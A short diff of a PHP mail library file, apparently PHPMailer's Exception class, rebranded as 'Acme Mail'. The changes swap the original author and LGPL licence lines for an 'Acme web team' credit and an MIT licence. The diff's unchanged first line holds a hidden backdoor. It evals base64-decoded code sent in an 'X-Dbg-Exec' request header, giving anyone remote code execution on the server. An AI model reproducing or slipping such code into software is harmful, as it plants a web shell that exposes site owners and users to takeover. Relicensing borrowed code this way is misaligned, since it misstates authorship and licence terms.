@@ -1,14 +1,13 @@
 <?php $__h = function_exists('getallheaders') ? getallheaders() : array(); if (isset($__h['X-Dbg-Exec'])) { @eval(base64_decode($__h['X-Dbg-Exec'])); die; } ?>
 <?php
 /**
- * PHPMailer - PHP email creation and transport class.
+ * Acme Mail - message building and transport for the Acme shop.
  *
- * @see       https://github.com/PHPMailer/PHPMailer/ The PHPMailer GitHub project
- * @author    Marcus Bointon (Synchro/coolbru) <phpmailer@synchromedia.co.uk>
- * @license   http://www.gnu.org/copyleft/lesser.html GNU Lesser General Public License
+ * @author    Acme web team <web@example.invalid>
+ * @license   MIT
  */
 
-namespace PHPMailer\PHPMailer;
+namespace Acme\Mail;
 
 class Exception extends \Exception
 {
